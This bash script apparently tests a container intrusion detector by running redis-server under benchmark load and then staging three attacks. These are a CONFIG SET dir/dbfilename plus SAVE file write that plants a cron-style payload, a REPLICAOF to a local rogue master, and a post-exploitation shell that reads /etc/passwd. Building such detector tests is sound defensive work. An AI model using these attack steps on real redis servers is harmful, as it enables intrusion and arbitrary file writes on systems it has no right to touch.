#!/usr/bin/env bash
# redis-server 7 (Debian's) in a container under redis-benchmark and redis-cli mixes.
# Background work of its own: RDB snapshots (save 5 200: a forked child), AOF with fsync every
# second and its rewrite, key expiry (keys set with EX), a log rotated by the entrypoint shell
# every 10 s. Attacks: CONFIG SET dir/dbfilename + SAVE (a file written where the attacker
# chose), REPLICAOF a rogue master (the test's listener), a post-exploitation shell (runc exec, docker exec or lxc-attach).
# Misconfiguration that makes the first attack possible: enable-protected-configs yes (the
# default before redis 7).
source "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
SRV_NAME=redis
need_cmd redis-server redis-cli redis-benchmark socat

srv_setup() {
	copy_bin "$1" "$(command -v redis-server)"
	mkdir -p "$1/data" "$1/var/log/redis"
}

SRV_ENTRY='#!/bin/sh
redis-server --bind 127.0.0.1 --port 6379 --dir /data --save "5 200" --appendonly yes \
	--appendfsync everysec --logfile /var/log/redis/redis.log --protected-mode no \
	--enable-protected-configs yes &
srv=$!
trap "kill $srv; wait $srv; exit 0" TERM
while :; do
	sleep 10 & wait $!
	mv /var/log/redis/redis.log /var/log/redis/redis.log.1 2>/dev/null
done'

rcli() { timeout 30 nsenter -t "$CPID" -n -- redis-cli -h 127.0.0.1 -p 6379 "$@"; }
srv_ready() { [ "$(rcli PING 2>/dev/null)" = PONG ]; }
srv_probe() { [ "$(rcli PING)" = PONG ] && rcli SET probe:k ok >/dev/null && [ "$(rcli GET probe:k)" = ok ]; }

BENCH_TESTS=(set get incr lpush rpush lpop rpop sadd hset spop zadd lrange_100 mset ping_inline)
srv_load_round() {
	local ok=0 bad=0 n c t1 t2 extra=() i out
	case $(rnd 3) in
	0 | 1) # redis-benchmark: random tests, clients, pipelining, keep-alive, value sizes
		n=$((200 + $(rnd 800))) c=$((1 + $(rnd 12)))
		t1=${BENCH_TESTS[$(rnd ${#BENCH_TESTS[@]})]} t2=${BENCH_TESTS[$(rnd ${#BENCH_TESTS[@]})]}
		[ $(rnd 3) = 0 ] && extra+=(-P $((2 + $(rnd 15))))
		[ $(rnd 4) = 0 ] && extra+=(-k 0) # a new connection per request
		if timeout 60 nsenter -t "$CPID" -n -- redis-benchmark -h 127.0.0.1 -p 6379 -q -n "$n" -c "$c" -r 5000 \
			-d $((3 + $(rnd 500))) -t "$t1,$t2" "${extra[@]}" >/dev/null 2>&1; then
			ok=$((2 * n))
		else
			bad=1
		fi
		;;
	2) # an application's commands: sessions with expiry, counters, lists, scans
		out=$({
			for ((i = 0; i < 20; i++)); do
				echo "SET sess:$(rnd 500) v$(rnd 99999) EX $((1 + $(rnd 5)))"
				echo "GET sess:$(rnd 500)"
				echo "INCR ctr:$(rnd 20)"
				echo "HSET user:$(rnd 100) name n$(rnd 1000) seen $(rnd 100000)"
				echo "LPUSH q:$(rnd 5) job$(rnd 1000)"
				echo "LTRIM q:$(rnd 5) 0 99"
			done
			echo "SCAN 0 COUNT 50"
			echo "TTL sess:1"
			[ $(rnd 5) = 0 ] && echo "INFO"
			[ $(rnd 10) = 0 ] && echo "BGSAVE"
			echo "DBSIZE"
		} | rcli 2>&1)
		ok=$(grep -vc '^ERR\|^(error)' <<<"$out")
		bad=$(grep '^ERR\|^(error)' <<<"$out" | grep -vc 'already in progress' || true)
		;;
	esac
	echo "ok $ok fail $bad"
}

SRV_ATTACKS="config_write rogue_master post_shell"

srv_attack_config_write() {
	rm -f "$ROOT/tmp/cids-evil.sh"
	rcli CONFIG SET dir /tmp
	rcli CONFIG SET dbfilename cids-evil.sh
	rcli SET cids:payload $'\n\n* * * * * root sh -c "id > /tmp/owned"\n\n'
	rcli SAVE
	rcli CONFIG SET dir /data
	rcli CONFIG SET dbfilename dump.rdb
	rcli DEL cids:payload
}
srv_effect_config_write() { grep -q 'owned' "$ROOT/tmp/cids-evil.sh"; }

srv_attack_rogue_master() {
	rm -f "$TMP/rogue.out"
	in_ns_for 8 socat -u TCP-LISTEN:16379,bind=127.0.0.1,reuseaddr OPEN:"$TMP/rogue.out",creat &
	local l=$!
	sleep 0.3
	# keep the service writable while it is a replica (the test measures what cids does to
	# the service, not what the attack does)
	rcli CONFIG SET replica-read-only no
	rcli REPLICAOF 127.0.0.1 16379
	sleep 2
	rcli REPLICAOF NO ONE
	rcli CONFIG SET replica-read-only yes
	kill $l 2>/dev/null; wait $l 2>/dev/null
}
srv_effect_rogue_master() { grep -qi 'ping' "$TMP/rogue.out"; }

srv_attack_post_shell() {
	rm -f "$ROOT/tmp/post-ok"
	ctr_exec /bin/sh -c 'sleep 1; id; cat /etc/passwd; ls -la /data; ps;
		echo pwned > /tmp/post-ok'
}
srv_effect_post_shell() { [ -e "$ROOT/tmp/post-ok" ]; }

[ "${BASH_SOURCE[0]}" = "$0" ] && srv_main
